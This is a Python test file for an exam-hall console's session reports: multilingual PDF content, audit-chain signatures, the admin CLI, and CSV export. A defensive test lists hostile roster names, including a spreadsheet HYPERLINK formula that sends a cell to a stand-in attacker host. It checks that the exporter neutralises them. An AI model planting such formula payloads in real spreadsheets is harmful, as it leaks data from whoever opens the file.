"""The session report: made by the API and by `admin report`, read back with pdftotext."""

from __future__ import annotations

import ast
import csv
import io
import re
import subprocess
from datetime import timedelta
from pathlib import Path

import cv2
import pytest
from sqlalchemy import select, update

from operator_console.cli import main
from operator_console.protocol.calls import ServerRefused
from operator_console.protocol.reasons import Reason
from operator_console.protocol.signing import document_signed
from operator_console.server.models import AuditEntry, Registration
from operator_console.server.reports import report_pdf
from operator_console.server.reports.report_texts import EN, TEXTS
from question_banks.keys import load_verify_key
from tests.conftest import HALL_ID
from tests.hall import Hall
from tests.operator_console.server.test_recordings_api import person


@pytest.fixture
def hall(driven_hall: Hall) -> Hall:
    return driven_hall


def _text(pdf: bytes, tmp_path: Path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


def _a_session(hall: Hall) -> dict[str, str]:
    """Two candidates sit legislation, one is refused (a ban), an incident and a verdict."""
    names = {}
    for reg, seat in [(hall.registrations[1], "A01"), (hall.registrations[4], "A02")]:
        hall.seat(reg, seat)
        names[seat] = reg.full_name
    banned = hall.registrations[2]
    refused = hall.desk.admit(banned)
    assert refused.status == "refused"
    names["refused"] = banned.full_name
    hall.console.start_session(hall.session_id)
    for seat in ("A01", "A02"):
        form = hall.start(seat)
        hall.kiosks[seat].finish(form.attempt_id, "submitted", 0)
        names[f"attempt-{seat}"] = form.attempt_id
    hall.console.log_incident(
        Reason(category="environment", code="noise", note="Шу: жөндеу жұмыстары"),
        session_id=hall.session_id,
    )
    hall.clock.advance(timedelta(minutes=1))
    hall.runtime.sync.run_once()
    return names


def test_the_report_names_everyone_their_refusals_scores_and_the_audit_head(
    hall: Hall, tmp_path: Path
) -> None:
    names = _a_session(hall)
    pdf = hall.console.report_pdf(hall.session_id, "ru")
    assert pdf.startswith(b"%PDF-")
    text = _text(pdf, tmp_path)
    assert "Отчёт о сессии" in text and hall.session_id in text
    for who in (names["A01"], names["A02"], names["refused"]):
        assert who in text, who
    assert "действует запрет" in text  # the refusal's reason, in Russian
    assert "Шу: жөндеу жұмыстары" in text  # Kazakh letters come through the font
    results = {r.attempt_id: r for r in hall.console.results(hall.session_id)}
    for seat in ("A01", "A02"):
        r = results[names[f"attempt-{seat}"]]
        assert r.total is not None
        assert r.sections[0].code == "constitution"
        assert f"Конституция: {r.sections[0].score:g} (пороговый балл: " in text
    # The audit head at printing time, and the hall's signature over it, as an auditor checks.
    seq = int(text.split("Записей:")[1].split()[0])
    printed = text.split("Вершина цепочки:")[1].split()[0]
    signature = text.split("Подпись зала:")[1].split()[0]
    with hall.runtime.read() as db:
        entry = db.execute(select(AuditEntry).where(AuditEntry.seq == seq)).scalar_one()
    assert printed == entry.hash
    key = load_verify_key(Path(hall.runtime.config.keys.dir) / "hall-sign.pub")
    assert document_signed(key, {"hall_id": HALL_ID, "seq": seq, "head": printed}, signature)
    assert "Стр. 1 /" in text
    # Its pages as pictures: text on them, set in the embedded font that has Kazakh letters.
    subprocess.run(["pdftoppm", "-r", "40", "-png", "-f", "1", "-l", "1", str(tmp_path /
                    "report.pdf"), str(tmp_path / "page")], check=True)  # fmt: skip
    page = cv2.imread(str(next(tmp_path.glob("page*.png"))), cv2.IMREAD_GRAYSCALE)
    assert page is not None and page.shape[1] > page.shape[0]  # A4 landscape
    assert 0.01 < float((page < 128).mean()) < 0.5
    fonts = subprocess.run(["pdffonts", str(tmp_path / "report.pdf")], capture_output=True,
                           text=True, check=True).stdout  # fmt: skip
    embedded = [line for line in fonts.splitlines() if "Sans" in line]
    assert embedded and all(line.split()[-5] == "yes" for line in embedded), fonts
    kk = _text(hall.console.report_pdf(hall.session_id, "kk"), tmp_path)
    assert "Сессия туралы есеп" in kk and "тыйым мерзімі бітпеген" in kk
    en = _text(hall.console.report_pdf(hall.session_id, "en"), tmp_path)
    assert "Session report" in en and "Page 1 /" in en


def test_a_long_session_breaks_its_tables_across_pages_with_the_header_again(
    hall: Hall, tmp_path: Path
) -> None:
    from operator_console.server.reports.report import Person, ReportData, ResultRow

    data = ReportData(
        hall_id=HALL_ID, hall_name="Зал", session_id="S-1", starts_at=hall.clock.now(),
        started_at=None, programs=["legislation"], printed_at=hall.clock.now(), staff=[],
        expected=200,
    )  # fmt: skip
    data.results = [
        ResultRow(Person(f"R{n}", f"{n:012d}", f"Үміткер {n}"), f"A{n:03d}", "legislation",
                  "kk", "finished", "submitted", "pass", 40.0, [], "pending")
        for n in range(200)
    ]  # fmt: skip
    pdf = report_pdf.render(data, language="kk", zone=hall.runtime.config.zone)
    pages = _text(pdf, tmp_path).split("\f")
    with_results = [p for p in pages if "Үміткер 1" in p or "Үміткер 19" in p]
    assert len(with_results) >= 3
    # Every page the results table runs over starts with its header again.
    assert all("Бағдарлама" in p and "Тексеріс" in p for p in with_results)
    printed = [p for p in pages if p.strip()]
    assert f"Бет {len(printed)} / {len(printed)}" in printed[-1]


def test_admin_report_writes_the_pdf_and_csv_and_refuses_an_unknown_session(
    hall: Hall, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    names = _a_session(hall)
    config = tmp_path / "hall.toml"
    c = hall.runtime.config
    config.write_text(
        f'[server]\ndata_dir = "{c.server.data_dir}"\n'
        f'[upstream]\nurl = "{c.upstream.url}"\nhall_id = "{HALL_ID}"\n'
        f'[keys]\ndir = "{c.keys.dir}"\n[banks]\ndir = "{c.banks_dir}"\n'
    )
    out, table = tmp_path / "out" / "report.pdf", tmp_path / "out" / "results.csv"
    code = main(["admin", "--config", str(config), "report", "--session", hall.session_id,
                 "--out", str(out), "--csv", str(table), "--language", "en"])  # fmt: skip
    assert code == 0, capsys.readouterr().err
    assert names["A01"] in _text(out.read_bytes(), tmp_path)
    rows = list(csv.DictReader(io.StringIO(table.read_text("utf-8"))))
    assert {r["full_name"] for r in rows} == {names["A01"], names["A02"]}
    assert all(r["outcome"] in ("pass", "fail") and r["sections"] for r in rows)
    capsys.readouterr()
    missing = tmp_path / "missing.pdf"
    code = main(["admin", "--config", str(config), "report", "--session", "nope",
                 "--out", str(missing)])  # fmt: skip
    err = capsys.readouterr().err
    assert code != 0 and err.count("\n") == 1 and "session nope" in err
    assert not missing.exists()
    verify = main(["admin", "--config", str(config), "verify-audit", "--offline"])
    said = capsys.readouterr().out
    assert verify == 0 and "verdict: holds" in said
    with hall.runtime.tx() as db:
        db.execute(update(AuditEntry).where(AuditEntry.seq == 2).values(actor="someone else"))
    broken = main(["admin", "--config", str(config), "verify-audit", "--offline"])
    said = capsys.readouterr().out
    assert broken == 1 and "BROKEN at entry 2" in said and "someone else" in said


def test_the_report_route_checks_roles_and_languages(hall: Hall) -> None:
    _a_session(hall)
    kiosk = hall.kiosks["A01"]
    with pytest.raises(ServerRefused) as refused:
        kiosk._core.send("GET", f"/api/v1/sessions/{hall.session_id}/report.pdf")
    assert refused.value.status == 401
    proctor = person(hall, "proctor5", "proctor")
    ok = proctor.get(f"/api/v1/sessions/{hall.session_id}/report.pdf", params={"language": "ru"})
    assert ok.status_code == 200 and ok.headers["content-type"] == "application/pdf"
    bad = proctor.get(f"/api/v1/sessions/{hall.session_id}/report.pdf", params={"language": "de"})
    assert bad.status_code == 422
    assert proctor.get("/api/v1/sessions/nope/report.pdf").status_code == 404
    proctor.close()


def test_every_word_the_report_prints_has_its_kazakh_and_russian() -> None:
    source = Path(report_pdf.__file__).read_text("utf-8")
    said = {
        node.args[0].value
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Name)
        and node.func.id == "w"
        and node.args
        and isinstance(node.args[0], ast.Constant)
    }
    assert len(said) > 40
    assert said - set(TEXTS) == set()
    assert set(EN) <= set(TEXTS)
    assert all(kk.strip() and ru.strip() for kk, ru in TEXTS.values())


LATIN_WORD = re.compile(r"[A-Za-z]{3,}")
ALLOWED_LATIN = frozenset({"JSON", "PDF", "UTC", "SHA", "II", "III"})
"""Latin words a kk or ru report may print: formats, standards, Roman numerals; not English."""
LITERALS = ("operator-console admin verify-audit", '{"hall_id", "seq", "head"}')
"""What an auditor types and checks as it is printed: the command and the signed document's
fields."""


def _english_in(text: str, data: object) -> list[str]:
    """The Latin words of a kk or ru report that are neither allowed nor data (ids, user names,
    the chain's head and signature: a word cut where a line wraps is a piece of one of them)."""
    from operator_console.server.reports.report import ReportData

    assert isinstance(data, ReportData)
    values = [data.hall_id, data.hall_name, data.session_id]
    values += [u for u, _n, _r in data.staff]
    values += [r.by for r in data.refused] + [h.actor for h in data.happenings]
    if data.seal is not None:
        values += [data.seal.head, data.seal.signature]
    for literal in LITERALS:
        text = text.replace(literal, "")
    return [
        word
        for word in LATIN_WORD.findall(text)
        if word not in ALLOWED_LATIN and not any(word in v for v in values)
    ]


def _every_kind_of_entry(hall: Hall) -> object:
    from operator_console.protocol.console_api.sync import SyncStatus
    from operator_console.protocol.reasons import REASONS
    from operator_console.protocol.records import SectionResult
    from operator_console.server.reports.report import (
        AuditSeal,
        DetectorCheck,
        Happening,
        Person,
        Refused,
        ReportData,
        ResultRow,
    )
    from operator_console.server.reports.report_texts import REASONS as WORDS
    from question_banks.programs import PROGRAMS

    now = hall.clock.now()
    who = Person("R1", "900101300123", "Әлиев Асқар")
    data = ReportData(
        hall_id=HALL_ID, hall_name="Астана, «Б» корпусы", session_id="S-7", starts_at=now,
        started_at=now, programs=list(PROGRAMS), printed_at=now,
        staff=[("operator1", "Оператор Бір", "operator"), ("proctor1", "", "proctor")],
        expected=3,
    )  # fmt: skip
    rules = ["banned", "iin_mismatch", "invalid_iin", "late", "not_on_roster",
             "retake_too_soon", "attempts_this_month", "session_closed"]  # fmt: skip
    data.refused = [Refused(who, now, code, f"{code} in English words", "operator1")
                    for code in rules]  # fmt: skip
    data.refused += [
        Refused(who, now, code, code.replace("_", " ") + ": Ескерту", "desk")
        for codes in REASONS.values() for code in codes
    ]  # fmt: skip
    data.no_shows = [Person("R2", "900101300124", "Серікова Дана")]
    data.detector = [
        DetectorCheck(now, source, kind, [1, 3], (("Әлиев Асқар", refused),))
        for source in ("serial", "manual")
        for kind in ("pass", "alarm", "fault", "tamper")
        for refused in (True, False)
    ]
    data.seats = [("A01", who, list(PROGRAMS))]
    automatic = {
        "lockdown": ["focus_lost", "extra_screen", "prohibited_program", "unclean_exit",
                     "virtual_machine", "remote_session", "shortcut_blocked", "close_attempt",
                     "identity_disputed", "operator", "room_paused", "moved_here"],
        "camera": ["camera_check_failed", "camera_unavailable", "camera_lost", "camera_frozen",
                   "recording_failed", "recording_resumed"],
        "proctoring": ["no_face", "several_faces"],
    }  # fmt: skip
    assert {c for codes in automatic.values() for c in codes} <= set(WORDS)
    data.happenings = [
        Happening(now, "operator1", "incident", "A01", category, code, "Ескертпе")
        for category, codes in REASONS.items()
        for code in codes
    ]
    data.happenings += [
        Happening(now, "kiosk:A01", "incident", "A01", category, code, "Escape pressed")
        for category, codes in automatic.items()
        for code in codes
    ]
    actions = ["seat.pause", "seat.resume", "seat.resume_code", "seat.time", "seat.terminate",
               "seat.move", "seat.lock", "seat.resume_held", "seat.resume_refused",
               "session.start", "session.pause", "session.resume"]  # fmt: skip
    data.happenings += [
        Happening(now, actor, action, "A01", "examinee", "illness", "")
        for action in actions
        for actor in ("operator1", "detector", "desk", "server", "kiosk:A01")
    ]
    data.results = []
    outcomes = [("finished", "submitted", "pass"), ("finished", "time_expired", "fail"),
                ("finished", "terminated", "annulled"), ("running", "", "")]  # fmt: skip
    for code, prog in PROGRAMS.items():
        for (status, finish, outcome), verification in zip(
            outcomes, ["pending", "clear", "violation", "pending"], strict=True
        ):
            sections = [
                SectionResult(code=s.code, questions=s.questions, answered=1, correct=0,
                              score=2.5, threshold=None if s.threshold is None else
                              float(s.threshold), passed=None if s.threshold is None else False)
                for s in prog.sections
            ]  # fmt: skip
            data.results.append(
                ResultRow(who, "A01", code, "kk", status, finish, outcome, 31.5, sections,
                          verification)
            )  # fmt: skip
    data.sync = SyncStatus(pending=2, parked=1, delivered=5, oldest_pending_seconds=90,
                           last_success_at=now, level="warning")  # fmt: skip
    data.seal = AuditSeal(12, "ab" * 32, "QmFzZTY0dXJsU2lnbmF0dXJlT2ZUaGVIYWxs" * 2)
    return data


@pytest.mark.parametrize("language", ["kk", "ru"])
def test_a_kazakh_or_russian_report_prints_no_english_word(
    hall: Hall, tmp_path: Path, language: str
) -> None:
    from operator_console.server.reports.report import ReportData

    data = _every_kind_of_entry(hall)
    assert isinstance(data, ReportData)
    text = _text(
        report_pdf.render(data, language=language, zone=hall.runtime.config.zone), tmp_path
    )
    assert _english_in(text, data) == []
    said = {
        "kk": ["Конституция: 2,5 (шекті балл: 5), өтпеді", "киоск, Орын A01",
               "металл іздегіш", "Жеке қасиеттер, III бағдарлама", "Үміткер: сөйлесу",
               "Киоскті бұғаттау", "31,5",
               "жойылды (тестілеу"],
        "ru": ["Конституция: 2,5 (пороговый балл: 5), не пройден", "киоск, место A01",
               "металлодетектор", "стол допуска", "Личные качества, программа III",
               "Кандидат: разговоры", "Блокировка киоска", "болезнь: Ескерту"],
    }[language]  # fmt: skip
    for words in said:
        assert words in " ".join(text.split()), words
    assert "operator1" in text  # user names stay as they are


@pytest.mark.parametrize("language", ["kk", "ru"])
def test_the_report_of_a_real_session_prints_no_english_word(
    hall: Hall, tmp_path: Path, language: str
) -> None:
    _a_session(hall)
    pdf, data = report_pdf.session_report(hall.runtime, hall.session_id, language=language)
    assert _english_in(_text(pdf, tmp_path), data) == []


HOSTILE = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"Нажмите")',
    "+7 701 000 00 00",
    "-2+3",
    "@SUM(1,1)",
    "\tТаб",
    "\rВозврат",
    "Ан\x00на\x1b[31m",
]


def test_results_csv_cells_are_text_a_spreadsheet_never_runs(hall: Hall) -> None:
    """Names as a hostile roster could carry them: each row reads back as the name, and no cell
    begins as a formula does (OWASP's list), nor carries a control character."""
    from question_banks.spreadsheet import FORMULA_START, read_cell

    _a_session(hall)
    with hall.runtime.tx() as db:
        ids = [hall.registrations[n].registration_id for n in (1, 4)]
        seated = db.scalars(select(Registration).where(Registration.id.in_(ids))).all()
        for reg, name in zip(seated, HOSTILE[:2], strict=True):
            reg.full_name = name
    rows = list(csv.reader(io.StringIO(hall.console.results_csv(hall.session_id).decode())))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_START)] == []
    assert {read_cell(row[3]) for row in rows[1:]} == set(HOSTILE[:2])
    for name in HOSTILE:
        from question_banks.spreadsheet import safe_cell

        written = safe_cell(name)
        assert not written.startswith(FORMULA_START)
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", written)
        assert read_cell(written) == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", name)


def test_a_time_change_s_minutes_both_names_of_a_shared_check_and_no_header_word_broken(
    hall: Hall, tmp_path: Path
) -> None:
    from operator_console.server.reports.report import (
        DetectorCheck,
        Happening,
        Person,
        ReportData,
        ResultRow,
    )

    now = hall.clock.now()
    data = ReportData(
        hall_id=HALL_ID, hall_name="Зал", session_id="S-1", starts_at=now, started_at=now,
        programs=["legislation"], printed_at=now, staff=[], expected=2,
    )  # fmt: skip
    data.detector = [
        DetectorCheck(
            now, "serial", "pass", [], (("Ахметова Әсел", True), ("Сейітов Дәурен", False))
        )
    ]
    data.happenings = [
        Happening(now, "chief", "seat.time", "A01", "technical", "kiosk_dead", "", minutes=5)
    ]
    data.results = [
        ResultRow(Person("R1", "950208398475", "Сейітов Дәурен"), "A01", "legislation", "kk",
                  "finished", "submitted", "pass", 40.0, [], "pending")
    ]  # fmt: skip
    for language, minutes in (("kk", "+5 мин"), ("ru", "+5 мин")):
        text = _text(report_pdf.render(data, language=language, zone=hall.runtime.config.zone),
                     tmp_path)  # fmt: skip
        assert minutes in text
        assert "Ахметова Әсел" in text and "Сейітов Дәурен" in text  # both decided with it
        assert re.search(r"\bОры\b|\bМес\b", text) is None, text  # "Орын" whole, not "Оры/н"
